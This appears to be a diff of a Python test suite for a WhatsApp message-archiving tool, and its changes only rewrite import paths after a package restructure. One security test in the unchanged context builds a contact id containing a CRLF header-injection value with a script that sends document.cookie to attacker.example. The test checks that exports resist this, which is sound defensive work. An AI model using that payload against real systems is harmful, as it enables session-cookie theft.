@@ -21,11 +21,11 @@ from aiohttp import web
 
 from tests.conftest import LEDGER_KEY
 from tests.test_outbound import _proxy, _record
-from wa_archive import ledger
-from wa_archive.embedded import free_port
+from wa_archive.integrity import ledger
+from wa_archive.devstack.embedded import free_port
 from wa_archive.errors import LinkRefused
-from wa_archive.linkfetch import Allowlist, LinkFetcher
-from wa_archive.sample_payloads import dumps, envelope, message, wamid
+from wa_archive.sources.links import Allowlist, LinkFetcher
+from wa_archive.sources.meta.samples import dumps, envelope, message, wamid
 
 SIGNER = ledger.Signer(base64.b64decode(LEDGER_KEY))
 PUBLIC_KEY = base64.b64encode(SIGNER.public_key()).decode()
@@ -146,7 +146,7 @@ async def test_the_application_role_cannot_write_a_ledger_leaf_the_head_did_not_
     pool = clean_db
     size = await pool.fetchval("SELECT size FROM ledger_head")
     leaf = ledger.leaf_bytes("message", "wamid.squatter", "0" * 64)
-    from wa_archive import merkle
+    from wa_archive.integrity import merkle
 
     try:
         await pool.execute("INSERT INTO ledger_leaves (seq, kind, record_id, digest, leaf_hash)"
@@ -210,9 +210,9 @@ async def test_a_contact_id_cannot_inject_headers_into_the_rsmf_email(stack, tmp
     """The RSMF file is an RFC 5322 message whose Subject carries the contact's id, which comes from
     the payload (a webhook's `from`/`wa_id`); a line break in it must not end the headers early and
     make the e-mail an HTML document of the sender's."""
-    from wa_archive.export import ExportQuery, write_bundle
-    from wa_archive.keys import safe_id
-    from wa_archive.sample_payloads import dumps, envelope, message
+    from wa_archive.discovery.export import ExportQuery, write_bundle
+    from wa_archive.archive.keys import safe_id
+    from wa_archive.sources.meta.samples import dumps, envelope, message
 
     contact = ("x\r\nContent-Type: text/html\r\n\r\n<script>fetch('https://attacker.example/'+document.cookie)"
                "</script>\r\n")
@@ -278,7 +278,7 @@ async def test_cli_retrieval_tests_is_an_access_logged_read(clean_db, database_u
 def test_a_phone_number_is_ascii_digits_only(value):
     """str.isdigit admits full-width, superscript and Arabic-Indic digits; a phone number that is
     searched, held or erased must be the same string as the one archived, so they are not phones."""
-    from wa_archive.keys import normalize_phone
+    from wa_archive.archive.keys import normalize_phone
 
     assert normalize_phone(value) is None
     assert normalize_phone("+44 7700-900123") == "447700900123"
